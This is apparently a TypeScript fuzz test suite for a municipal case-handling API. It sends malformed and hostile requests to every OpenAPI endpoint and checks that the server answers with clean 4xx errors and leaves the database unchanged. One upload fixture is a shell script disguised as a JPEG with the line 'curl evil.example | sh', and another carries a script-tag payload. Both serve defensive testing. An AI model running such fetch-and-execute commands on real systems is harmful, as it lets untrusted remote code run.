/**
 * Bad input on every endpoint (issue 6, resilience: "bad input"). The routes are walked from the
 * app's own OpenAPI document; for each, fast-check generates malformed and hostile requests
 * (wrong types, huge strings and arrays, deep nesting, invalid UTF-8, NaN/Infinity and
 * out-of-range coordinates, SQL and HTML injection, bodies that are not JSON or are mislabelled)
 * as an admin, a resident and nobody. Every answer is < 500; every 4xx names the problem (a code
 * and a message, and a field for validation); a route that refused every request left every table
 * as it was (tableChecksums). FUZZ_RUNS=200 for a long session (default: a few per route, to keep
 * `npm test` fast). The arbitraries live in test/resilience/fuzz-lib.ts.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tableChecksums } from '../../src/platform/backup.js';
import { closeWorld, createCasesWorld, multipart, type CasesWorld } from '../cases/setup.js';
import { badParam, badQueryEncoded, badValue, enc, operations, problemWith, rawBody, sample, type Operation } from '../resilience/fuzz-lib.js';

const RUNS = Number(process.env.FUZZ_RUNS ?? 4);
/** Rows that any authenticated request touches (last seen, last used): not written by the request's payload. */
const VOLATILE = new Set(['session', 'api_key']);
/** Endpoints that stream forever (SSE) or end the session the suite acts with. */
const SKIP = new Set(['GET /api/events', 'POST /api/auth/logout']);
/** A refused login is meant to write (the failed-attempt counter and its audit record). */
const WRITES_WHEN_REFUSED = new Set(['POST /api/auth/login']);

let w: CasesWorld;
let ops: Operation[];
let caseId: number;
beforeAll(async () => {
  w = await createCasesWorld('5379');
  const doc = (await w.app.inject({ method: 'GET', url: '/openapi.json' })).json();
  ops = operations(doc).filter((o) => !SKIP.has(`${o.method} ${o.path}`));
  const r = await w.app.inject({ method: 'POST', url: '/api/cases', headers: w.resident.headers, payload: { channel: 'web', categoryCode: 'CITY.STREET_VENDING', description: '占道经营', location: w.inGrid } });
  caseId = r.json().case.id;
}, 180_000);
afterAll(() => closeWorld(w));

type Who = 'admin' | 'resident' | 'nobody';
const headersOf = (who: Who): Record<string, string> => (who === 'admin' ? { ...w.admin.headers } : who === 'resident' ? { ...w.resident.headers } : {});

const stable = async () => {
  const all = await tableChecksums(w.t.db);
  for (const t of VOLATILE) delete all[t];
  return all;
};

const fillPath = (op: Operation, params: Record<string, string>) => op.path.replace(/\{([^}]+)\}/g, (_m, name: string) => params[name] ?? '1');
const validParam = (name: string) => (name === 'id' ? String(caseId) : name === 'code' ? w.city.city.code : name === 'format' ? 'json' : '1');

/** One generated request for an operation. */
const requestFor = (op: Operation) =>
  fc.record({
    who: fc.constantFrom<Who>('admin', 'resident', 'nobody'),
    // which part is bad: the path, the query, the JSON body (one field or all of it), or the raw bytes
    part: fc.constantFrom('params', 'query', 'field', 'body', 'raw'),
    params: fc.dictionary(fc.constantFrom(...(op.params.length ? op.params : ['_'])), badParam, { maxKeys: 2 }),
    query: fc.dictionary(fc.constantFrom(...(op.query.length ? op.query.map((q) => q.name) : ['q', 'limit'])), badQueryEncoded, { maxKeys: 3 }),
    field: fc.constantFrom(...Object.keys(op.body?.properties ?? { x: {} })),
    value: badValue,
    raw: rawBody,
  });

type Gen = ReturnType<typeof requestFor> extends fc.Arbitrary<infer T> ? T : never;

async function send(op: Operation, g: Gen) {
  const params: Record<string, string> = Object.fromEntries(op.params.map((p) => [p, validParam(p)]));
  if (g.part === 'params') Object.assign(params, g.params);
  let url = fillPath(op, params);
  if (g.part === 'query') url += `?${Object.entries(g.query).map(([k, v]) => `${enc(k)}=${v}`).join('&')}`;
  const headers = headersOf(g.who);
  const hasBody = op.method !== 'GET' && op.method !== 'DELETE';
  if (!hasBody) return w.app.inject({ method: op.method as 'GET', url, headers });
  if (g.part === 'raw') return w.app.inject({ method: op.method as 'POST', url, headers: { ...headers, 'content-type': g.raw.contentType }, payload: g.raw.payload });
  let body: unknown = sample(op.body) ?? {};
  if (g.part === 'field' && body && typeof body === 'object' && !Array.isArray(body)) body = { ...(body as object), [g.field]: g.value };
  else if (g.part === 'body') body = g.value;
  return w.app.inject({ method: op.method as 'POST', url, headers: { ...headers, 'content-type': 'application/json' }, payload: JSON.stringify(body) ?? 'null' });
}

// Uploads first: the fuzzing below may, as an admin, legitimately edit or disable the resident.
describe('uploads: oversized and mislabelled files', () => {
  const upload = (parts: Parameters<typeof multipart>[0]) => {
    const m = multipart(parts);
    return w.app.inject({ method: 'POST', url: `/api/cases/${caseId}/attachments`, headers: { ...w.resident.headers, ...m.headers }, payload: m.payload });
  };

  it('4xx for a script named .jpg, and nothing is stored', async () => {
    const before = await stable();
    const r = await upload([{ name: 'file', filename: 'photo.jpg', contentType: 'image/jpeg', data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }]);
    expect(r.statusCode).toBeGreaterThanOrEqual(400);
    expect(r.statusCode).toBeLessThan(500);
    expect(problemWith(r)).toBeUndefined();
    const html = await upload([{ name: 'file', filename: 'x.png', contentType: 'image/png', data: Buffer.from('<html><script>alert(1)</script></html>') }]);
    expect(html.statusCode).toBeGreaterThanOrEqual(400);
    expect(html.statusCode).toBeLessThan(500);
    expect(await stable()).toEqual(before);
  });

  it('413 payload_too_large for a file over the limit, and nothing is stored', async () => {
    const before = await stable();
    const big = Buffer.alloc(21 * 1_048_576, 0xff);
    big.set([0xff, 0xd8, 0xff, 0xe0], 0);
    const r = await upload([{ name: 'file', filename: 'big.jpg', contentType: 'image/jpeg', data: big }]);
    expect(r.statusCode).toBe(413);
    expect(r.json().error.code).toBe('payload_too_large');
    expect(await stable()).toEqual(before);
  });

  it('400 bad_request for a truncated or boundary-less multipart body (not a 500 from the parser)', async () => {
    const before = await stable();
    for (const [type, payload] of [
      ['multipart/form-data; boundary=x', '[]'],
      ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n\xff\xd8'],
      ['multipart/form-data', '--x--'],
    ] as const) {
      const r = await w.app.inject({ method: 'POST', url: `/api/cases/${caseId}/attachments`, headers: { ...w.resident.headers, 'content-type': type }, payload });
      expect(r.statusCode, `${type} ${payload}: ${r.body}`).toBeGreaterThanOrEqual(400);
      expect(r.statusCode).toBeLessThan(500);
      expect(problemWith(r)).toBeUndefined();
    }
    expect(await stable()).toEqual(before);
  });

  it('4xx for a bad kind, too many files, no multipart at all', async () => {
    const before = await stable();
    const kind = await upload([{ name: 'kind', value: '<script>' }, { name: 'file', filename: 'a.jpg', contentType: 'image/jpeg', data: Buffer.from([0xff, 0xd8, 0xff]) }]);
    expect(kind.statusCode).toBe(400);
    expect(kind.json().error.details[0].field).toBe('kind');
    const many = await upload(Array.from({ length: 12 }, (_, i) => ({ name: `f${i}`, filename: `${i}.jpg`, contentType: 'image/jpeg', data: Buffer.from([0xff, 0xd8, 0xff, i]) })));
    expect(many.statusCode).toBeGreaterThanOrEqual(400);
    expect(many.statusCode).toBeLessThan(500);
    const json = await w.app.inject({ method: 'POST', url: `/api/cases/${caseId}/attachments`, headers: w.resident.headers, payload: { file: 'x' } });
    expect(json.statusCode).toBe(415);
    expect(problemWith(json)).toBeUndefined();
    expect(await stable()).toEqual(before);
  });
});

describe('bad input on every endpoint', () => {
  it('walks the OpenAPI document: every public and authenticated endpoint', () => {
    expect(ops.length).toBeGreaterThan(50);
    expect(ops.map((o) => `${o.method} ${o.path}`)).toEqual(expect.arrayContaining(['POST /api/cases', 'POST /api/cases/{id}/accept', 'GET /api/regions/{code}', 'POST /api/auth/login']));
  });

  it('no answer ≥ 500, every 4xx names the problem, a refused request writes nothing', { timeout: 600_000 }, async () => {
    const problems: string[] = [];
    // Reads first, compared once as a group (a read must never write, whatever it answered);
    // then each write endpoint on its own (checksums cost a query per table).
    const reads = ops.filter((o) => o.method === 'GET');
    const writes = ops.filter((o) => o.method !== 'GET');
    const fuzz = async (op: Operation): Promise<number> => {
      const name = `${op.method} ${op.path}`;
      let accepted = 0;
      await fc.assert(
        fc.asyncProperty(requestFor(op), async (g) => {
          let r: Awaited<ReturnType<typeof send>>;
          try {
            r = await send(op, g);
          } catch (e) {
            problems.push(`${name} as ${g.who}, bad ${g.part}: inject threw ${(e as Error).stack?.slice(0, 500)}`);
            return;
          }
          if (r.statusCode < 400) accepted += 1;
          const p = problemWith({ statusCode: r.statusCode, body: r.body, headers: r.headers });
          if (p) problems.push(`${name} as ${g.who}, bad ${g.part} ${JSON.stringify(g.part === 'params' ? g.params : g.part === 'query' ? g.query : g.part === 'field' ? { [g.field]: g.value } : g.part === 'raw' ? g.raw : g.value)?.slice(0, 300)} → ${p}`);
        }),
        { numRuns: RUNS, ...(process.env.FUZZ_SEED ? { seed: Number(process.env.FUZZ_SEED) } : {}) },
      );
      return accepted;
    };
    const changedSince = async (before: Awaited<ReturnType<typeof stable>>) => {
      const after = await stable();
      return Object.keys(after).filter((t) => after[t]!.md5 !== before[t]?.md5);
    };
    const beforeReads = await stable();
    for (const op of reads) await fuzz(op);
    const readChanged = await changedSince(beforeReads);
    if (readChanged.length > 0) problems.push(`GET endpoints changed ${readChanged.join(', ')}`);
    for (const op of writes) {
      const name = `${op.method} ${op.path}`;
      const before = await stable();
      const accepted = await fuzz(op);
      // A refused request must leave no trace.
      if (accepted === 0 && !WRITES_WHEN_REFUSED.has(name)) {
        const changed = await changedSince(before);
        if (changed.length > 0) problems.push(`${name}: refused every request but changed ${changed.join(', ')}`);
      }
    }
    expect(problems).toEqual([]);
  });
});
